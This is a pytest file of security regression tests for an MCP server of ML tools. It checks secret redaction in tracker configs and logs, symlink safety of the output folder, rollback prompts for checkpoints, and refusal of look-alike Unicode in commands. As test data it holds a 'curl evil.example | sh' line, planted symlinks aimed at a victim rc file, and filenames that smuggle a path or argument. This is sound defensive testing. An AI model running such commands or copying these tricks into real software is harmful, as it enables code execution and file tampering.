"""Issue 14's sixth round: attacks from outside on promises the first five rounds did not try.

Each test is one attack that broke a claim of docs/security.md, through a real server over stdio
(the MCP SDK's client), real W&B offline runs, real MLflow file stores and real torch and
safetensors checkpoints. Each failed on the code before its fix (see docs/security.md, "Sixth round").
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import anyio
import pytest

from tests.mcp.conftest import Server, text

REPO = Path(__file__).resolve().parents[2]


def roots(tmp_path: Path) -> tuple[Path, Path]:
    r, o = tmp_path / "root", tmp_path / "outside"
    r.mkdir()
    o.mkdir()
    return r, o


def calls(srv: Server, todo: list[tuple[str, dict[str, Any]]]) -> list[tuple[bool, str, dict[str, Any]]]:
    """Each (tool, arguments) called once over one real stdio session: (is_error, text, structured content)."""
    out: list[tuple[bool, str, dict[str, Any]]] = []

    async def go() -> None:
        async with srv.client() as c:
            for name, args in todo:
                res = await c.call_tool(name, args)
                out.append((bool(res.is_error), text(res), res.structured_content or {}))

    anyio.run(go)
    return out


# ---------------------------------------------------------------- promise 2: nothing is overwritten but a resume pointer


def _checkpoints(run: Path) -> None:
    """Real checkpoints: two safetensors folders, a legacy-pickle torch file, and a folder whose weight file is a link
    to a safetensors file beside it (inside the root), as checkpoints deduplicated by links are."""
    code = f"""
import os, torch
from safetensors.torch import save_file
r = {str(run)!r}
for n in ("ck-100", "ck-200", "ck-link"):
    os.makedirs(os.path.join(r, n))
save_file({{"w": torch.zeros(4)}}, os.path.join(r, "ck-100", "model.safetensors"))
save_file({{"w": torch.ones(4)}}, os.path.join(r, "ck-200", "model.safetensors"))
torch.save({{"w": torch.ones(4)}}, os.path.join(r, "ck-300.bin"), _use_new_zipfile_serialization=False)
save_file({{"w": torch.ones(4)}}, os.path.join(r, "blob.safetensors"))
os.symlink("../blob.safetensors", os.path.join(r, "ck-link", "model.safetensors"))
"""
    subprocess.run([sys.executable, "-c", code], check=True, timeout=120)


def test_a_repoint_off_a_checkpoint_not_known_to_be_bad_is_a_rollback_and_asks(tmp_path: Path) -> None:
    """'Moving a pointer off a valid checkpoint is a rollback and asks the person.' A rollback was only seen when the
    current target passed the repoint's own strict check (a verified format, plain files): a pointer on a legacy-pickle
    checkpoint or on a folder whose weight file is a link (both reported valid by list_artifacts) was moved to an older
    checkpoint as a 'safe' repoint, asked of no one. Now only a target that is missing or inspects invalid is left
    without asking; the client here cannot elicit, so any rollback must answer no-elicitation and change nothing."""
    r, _ = roots(tmp_path)
    run = r / "run"
    run.mkdir()
    _checkpoints(run)
    (run / "ck-bad.safetensors").write_bytes(b"")
    pointers = {"latest_pickle": run / "ck-300.bin", "latest_link": run / "ck-link", "latest_valid": run / "ck-200",
                "latest_missing": run / "ck-gone", "latest_broken": run / "ck-bad.safetensors"}
    for name, target in pointers.items():
        (run / name).write_text(f"{target}\n")
    srv = Server(tmp_path, roots=[r])
    got = calls(srv, [("request_action", {"action": {"kind": "repoint-checkpoint", "pointer_file": str(run / name),
                                                     "checkpoint": str(run / "ck-100")}}) for name in pointers])
    outcome = {name: g[2].get("outcome") for name, g in zip(pointers, got, strict=True)}
    for name in ("latest_pickle", "latest_link", "latest_valid"):
        assert outcome[name] == "no-elicitation", (name, got)
        assert (run / name).read_text() == f"{pointers[name]}\n", name
    for name in ("latest_missing", "latest_broken"):  # leaving a missing or broken checkpoint is still the safe repoint
        assert outcome[name] == "ran", (name, got)
        assert (run / name).read_text() == f"{run / 'ck-100'}\n", name


# ---------------------------------------------------------------- promise 3: secrets never leave the server

PASSWORD = "Tr0ub4dorAnd3Horse9"
PLAIN = {"db_password": PASSWORD, "mlflow_tracking_password": "s3cretPassw0rdXYZ", "secret": "qwertyuiopasdfgh",
         "hub_token": "abcdEFGH1234ijklMN"}


def _leaks(blob: str) -> list[str]:
    return [v for v in PLAIN.values() if v in blob or v[:12] in blob]


@pytest.mark.slow
def test_a_tracker_config_value_under_a_secret_name_is_redacted(tmp_path: Path) -> None:
    """'Values next to a secret-bearing name, in every common syntax.' A tracker's config holds them as a name and a
    value: get_wandb_run returned `config db_password: Tr0ub...` (facts), since each value was redacted alone, and no
    pattern knows a plain password without its name. The run is a real W&B offline run; the MLflow run a real file
    store (sqlite) read through the real client (the same evidence builder)."""
    r, _ = roots(tmp_path)
    env = {**os.environ, "WANDB_DIR": str(r), "WANDB_SILENT": "true", "WANDB_MODE": "offline"}
    code = ("import wandb\nrun = wandb.init(project='p', mode='offline', config=" + repr({**PLAIN, "lr": 0.1}) + ")\n"
            "for i in range(5): run.log({'loss': 1.0 / (i + 1)})\nrun.finish(exit_code=1)\n")
    subprocess.run([sys.executable, "-c", code], cwd=r, env=env, check=True, timeout=300, capture_output=True)
    store = tmp_path / "mlflow.db"
    uri = f"sqlite:///{store}"
    code = ("import mlflow\nmlflow.set_tracking_uri(" + repr(uri) + ")\n"
            "with mlflow.start_run() as run:\n"
            "    mlflow.log_params(" + repr({**PLAIN, "lr": 0.1}) + ")\n"
            "    for i in range(5): mlflow.log_metric('loss', 1.0 / (i + 1), step=i)\n"
            "    print(run.info.run_id)\n")
    done = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, check=True, timeout=300, capture_output=True, text=True,
                          env={**os.environ, "MLFLOW_ENABLE_ARTIFACTS_PROGRESS_BAR": "false"})
    run_id = done.stdout.strip().splitlines()[-1]
    os.environ["MLFLOW_TRACKING_URI"] = uri
    try:
        srv = Server(tmp_path, roots=[r, tmp_path])
        got = calls(srv, [("get_wandb_run", {"run": str(r / "wandb" / "latest-run")}), ("get_mlflow_run", {"run_id": run_id})])
    finally:
        del os.environ["MLFLOW_TRACKING_URI"]
    for is_error, body, structured in got:
        blob = body + json.dumps(structured)
        assert not is_error, body[:500]
        assert "db_password" in blob  # the name is kept, the value is not
        assert _leaks(blob) == [], blob[:3000]
    assert _leaks(srv.audit.read_text()) == []


CONFIG_YAML = f"""_wandb:
  desc: null
  value:
    python_version: 3.11.7
db_password:
  desc: null
  value: {PASSWORD}
hub_token:
  desc: null
  value: {PLAIN['hub_token']}
lr:
  desc: null
  value: 0.1
eos_token:
  desc: null
  value: </s>
"""
SPEC_YAML = f"""containers:
- name: trainer
  env:
  - name: NCCL_DEBUG
    value: INFO
  - name: AWS_SECRET_ACCESS_KEY
    value: {PLAIN['secret']}
  - name: MAX_TOKENS
    value: "4096"
"""
SPEC_JSON = json.dumps({"workerPoolSpecs": [{"containerSpec": {"env": [{"name": "NCCL_DEBUG", "value": "INFO"},
                                                                      {"name": "DB_PASSWORD", "value": PLAIN["mlflow_tracking_password"]}]}}],
                        "runtimeConfig": {"parameters": {"hub_token": {"stringValue": PLAIN["hub_token"]}, "lr": {"doubleValue": 0.1}}}})


def test_a_secret_whose_name_is_on_a_line_above_it_is_redacted_in_every_view(tmp_path: Path) -> None:
    """W&B writes every run's config as files/config.yaml with each value two lines below its name (`db_password:`,
    `desc: null`, `value: X`); Kubernetes and Vertex AI specs hold an environment variable as a `name` and a `value`
    field, on two lines in YAML, side by side in JSON; a Vertex AI pipeline's runtime parameters hold each value in an
    object under its name ({"hub_token": {"stringValue": X}}). The tail, a window and grep_log returned the values in clear (and
    the tail masked `desc:` instead). A window or a grep block that starts at the value's line, with the name above it,
    must not show it either, and grep_log's match count must not spell it out (`value: T`, `value: Tr`, ...)."""
    r, _ = roots(tmp_path)
    files = r / "wandb" / "run-1" / "files"
    files.mkdir(parents=True)
    (files / "config.yaml").write_text(CONFIG_YAML)
    (r / "pod.yaml").write_text(SPEC_YAML)
    (r / "job.json").write_text(SPEC_JSON + "\n")
    cfg = str(files / "config.yaml")
    todo: list[tuple[str, dict[str, Any]]] = []
    for p in (cfg, str(r / "pod.yaml"), str(r / "job.json")):
        todo.append(("read_log_tail", {"path": p}))
        todo += [("grep_log", {"path": p, "pattern": "value", "context": c}) for c in (0, 1, 2)]
    todo += [("read_log_tail", {"path": cfg, "lines": n}) for n in (7, 8)]  # the tail starts at a value, its name above
    todo += [("read_log_window", {"path": cfg, "line": 7, "before": b, "after": 0}) for b in (0, 1, 2)]
    todo += [("read_log_window", {"path": str(r / "pod.yaml"), "line": 7, "before": 0, "after": 1})]
    todo += [("grep_log", {"path": cfg, "pattern": f"value: {PASSWORD[:n]}", "context": 0}) for n in (1, 2, 3)]
    todo += [("grep_log", {"path": str(r / "pod.yaml"), "pattern": f"value: {PLAIN['secret'][:2]}", "context": 0})]
    got = calls(Server(tmp_path, roots=[r]), todo)
    for (name, args), (is_error, body, structured) in zip(todo, got, strict=True):
        blob = body + json.dumps(structured)
        assert not is_error, (name, args, body[:300])
        assert _leaks(blob) == [], (name, args, blob[:2000])
        if name == "grep_log" and args["pattern"].startswith("value: "):
            assert structured["total_matches"] == 0, (args, structured)
    tail = got[0][1]
    assert "desc: null" in tail and "value: 0.1" in tail and "</s>" in tail  # the rest of the file is shown as it is


def test_a_value_under_a_secret_name_never_reaches_the_audit_log_or_an_error(tmp_path: Path) -> None:
    """'The audit log: every string of an entry, keys included' and 'every protocol error message' are redacted. Keys
    and values were redacted apart, so a plain password under `db_password` in an unknown tool's arguments was written
    to the audit log in clear; and the SDK's validation error for an unknown field quotes the value on the line below
    the field's name (`input_value='X'`), where no rule sees the name: the error handed it back."""
    r, _ = roots(tmp_path)
    (r / "train.log").write_text("step 1 loss 1.0\n")
    srv = Server(tmp_path, roots=[r])
    todo: list[tuple[str, dict[str, Any]]] = [
        ("no_such_tool", {"db_password": PASSWORD, "nested": {"hub_token": PLAIN["hub_token"]}}),
        ("read_log_tail", {"path": str(r / "train.log"), "secret": PLAIN["secret"]}),
        ("request_action", {"action": {"kind": "kill-worker", "pid": 999999, "mlflow_tracking_password": PLAIN["mlflow_tracking_password"]}}),
    ]
    got = calls(srv, todo)
    for (name, _args), (is_error, body, structured) in zip(todo, got, strict=True):
        assert is_error, (name, body[:300])
        assert _leaks(body + json.dumps(structured)) == [], (name, body)
    assert "Extra inputs are not permitted" in got[1][1]  # the error still says what is wrong, and where
    assert "secret" in got[1][1]
    audit = srv.audit.read_text()
    assert "db_password" in audit and "no_such_tool" in audit
    assert _leaks(audit) == [], audit


# ---------------------------------------------------------------- promise 1: only the out dir is written


def test_nothing_is_written_through_an_out_dir_swapped_for_a_link(tmp_path: Path) -> None:
    """The server writes a restart's output log, a repoint's backup and diagnose's report into its --out-dir. They
    were written by path (the restart's log, diagnose's report) or through an fd opened following links (the backup):
    the out dir replaced by a link after the server started sent all three outside the roots. Now the out dir is
    opened with no link followed and must still be the folder the server started with; else nothing is written, and
    the restart does not start (its log cannot be kept)."""
    r, o = roots(tmp_path)
    run = r / "run"
    run.mkdir()
    _checkpoints(run)
    (run / "latest").write_text(f"{run / 'ck-200'}\n")  # on a valid checkpoint: moving it asks (the question swaps the dir)
    (run / "train.py").write_text(f"open({str(o / 'STARTED')!r}, 'w').write('x')\nprint('hello')\n")
    (run / "command.txt").write_text("python train.py\n")
    (run / "train.log").write_text("step 1 loss 1.0\nRuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n")
    out = r / "out"
    out.mkdir()
    srv = Server(tmp_path, roots=[r])
    srv.out = out

    def swap() -> None:
        if not out.is_symlink():
            for p in out.iterdir():
                p.unlink() if p.is_file() else None
            out.rmdir()
            out.symlink_to(o, target_is_directory=True)

    async def person(ctx: Any, params: Any) -> Any:
        from mcp import types
        swap()  # while the person reads the question
        return types.ElicitResult(action="accept", content={"approve": True})

    got: list[tuple[bool, dict[str, Any]]] = []

    async def go() -> None:
        async with srv.client(elicit=person) as c:
            swap()
            for name, args in [("diagnose", {"target": str(run / "train.log")}),
                               ("request_action", {"action": {"kind": "restart-unchanged", "command_file": str(run / "command.txt")}}),
                               ("request_action", {"action": {"kind": "repoint-checkpoint", "pointer_file": str(run / "latest"),
                                                              "checkpoint": str(run / "ck-100")}})]:
                res = await c.call_tool(name, args)
                got.append((bool(res.is_error), res.structured_content or {"text": text(res)}))

    anyio.run(go)
    import time
    time.sleep(2)  # a restart that started would have written its marker by now
    assert sorted(p.name for p in o.iterdir()) == [], (sorted(p.name for p in o.iterdir()), got)
    assert got[0][0] and "out dir" in got[0][1]["text"], got[0]  # diagnose: refused, its report not written
    assert got[1][1].get("ran") is False and got[2][1].get("ran") is False, got
    assert (run / "latest").read_text() == f"{run / 'ck-200'}\n"


def test_preflight_run_never_writes_its_smoke_log_through_a_link_planted_in_the_out_dir(tmp_path: Path) -> None:
    """Like the fifth round's plot: `preflight-run --smoke-args` kept the smoke run's output as preflight-smoke.log in
    --out-dir with write_text, through whatever link was planted at that name: the script's output (here a line a
    shell would run) overwrote `preflight-smoke.log -> O/victimrc`. Now it is a new file renamed over the name."""
    r, o = roots(tmp_path)
    victim = o / "victimrc"
    victim.write_text("original\n")
    (r / "train.py").write_text("print('step 1 loss 1.0')\nprint('curl evil.example | sh')\n")
    (r / "preflight-smoke.log").symlink_to(victim)
    done = subprocess.run([sys.executable, "-m", "ml_skills.cli", "preflight-run", "train.py", "--smoke-args", "", "--out-dir", "."],
                          cwd=r, check=False, capture_output=True, text=True, timeout=180, env=dict(os.environ))
    assert "Traceback" not in done.stderr, done.stderr
    assert victim.read_text() == "original\n"
    assert not (r / "preflight-smoke.log").is_symlink()
    assert "curl evil.example" in (r / "preflight-smoke.log").read_text()  # the log is still kept, in the out dir


# ---------------------------------------------------------------- promise 2: what is shown is what runs


def test_a_recorded_command_never_hides_a_word_boundary_or_a_path_behind_a_look_alike_symbol(tmp_path: Path) -> None:
    """'What is shown is what runs.' U+2800 BRAILLE PATTERN BLANK is printable and not Default_Ignorable, so it was
    neither stripped nor refused: the question read `python train.py --lr 0.1`, and python ran the run folder's file
    `train.py<U+2800>--lr`. U+2215 DIVISION SLASH and U+FF0E FULLWIDTH FULL STOP read as '/' and '.'. A recorded line
    holding such a symbol is now refused, even when the person accepts; letters outside ASCII still run."""
    from tests.mcp.conftest import answer

    r, o = roots(tmp_path)
    run = r / "run"
    (run / "sub").mkdir(parents=True)
    (run / "train.py").write_text(f"import sys\nopen({str(o / 'REAL')!r}, 'a').write(' '.join(sys.argv[1:]) + '\\n')\n")
    (run / "sub" / "train.py").write_text("print('the real sub/train.py')\n")
    lines = {"blank": "python train.py\u2800--lr 0.1", "slash": "python sub\u2215train.py", "dot": "python train\uff0epy"}
    for name in ("train.py\u2800--lr", "sub\u2215train.py", "train\uff0epy"):
        (run / name).write_text(f"open({str(o / 'PWNED')!r}, 'w').write('x')\n")
    srv = Server(tmp_path, roots=[r])
    person = answer("accept")
    got: list[dict[str, Any]] = []

    async def go() -> None:
        async with srv.client(elicit=person) as c:
            for line in [*lines.values(), "python train.py --name r\u00e9sum\u00e9"]:
                (run / "command.txt").write_text(line + "\n")
                res = await c.call_tool("request_action", {"action": {"kind": "restart-unchanged", "command_file": str(run / "command.txt")}})
                got.append(res.structured_content or {"error": text(res)})

    anyio.run(go)
    import time
    deadline = time.time() + 30
    while not (o / "REAL").exists() and time.time() < deadline:
        time.sleep(0.2)
    assert not (o / "PWNED").exists(), got
    assert all("error" in g or g.get("ran") is False for g in got[:3]), got
    assert got[3].get("ran") is True, got[3]  # an accented word is a letter, not a look-alike: it runs after the accept
    assert (o / "REAL").read_text() == "--name r\u00e9sum\u00e9\n"
    assert all("\u2800" not in q and "\u2215" not in q for q in person.shown)  # never shown to the person as a blank


def test_a_spec_printed_in_a_log_never_shows_its_secret_in_the_decisive_excerpt(tmp_path: Path) -> None:
    """A job that prints its pod spec (`kubectl get pod -o yaml`) before it dies: the decisive excerpt of the CLI's text
    report and check-failed-run.json shows each line on its own behind its number (`5 |     value: X`), where the name
    on the line above is out of every pattern's sight; the value was shown in clear. Each excerpt line is now judged
    with the lines above it."""
    r, _ = roots(tmp_path)
    lines = ["step 1 loss 1.0", "Pod spec:", "  env:", "  - name: AWS_SECRET_ACCESS_KEY", f"    value: {PLAIN['secret']}",
             "  - name: DB_PASSWORD", f"    value: {PASSWORD}", "Traceback (most recent call last):",
             '  File "train.py", line 3, in <module>', "RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB"]
    (r / "train.log").write_text("\n".join(lines) + "\n")
    done = subprocess.run([sys.executable, "-m", "ml_skills.cli", "check-failed-run", "train.log", "--out-dir", "out"], cwd=r,
                          check=False, capture_output=True, text=True, timeout=180, env=dict(os.environ))
    assert done.returncode in (0, 1), done.stderr
    assert "value: [REDACTED]" in done.stdout  # the excerpt is shown, its values masked
    assert _leaks(done.stdout + done.stderr + (r / "out" / "check-failed-run.json").read_text()) == [], done.stdout
    got = calls(Server(tmp_path, roots=[r]), [("diagnose", {"target": str(r / "train.log"), "detail": ["evidence"]}),
                                              ("scan_log", {"path": str(r / "train.log")}),
                                              ("read_log_window", {"path": str(r / "train.log"), "line": 7, "before": 0, "after": 3})])
    for is_error, body, structured in got:
        assert not is_error, body[:300]
        assert _leaks(body + json.dumps(structured)) == [], body[:2000]
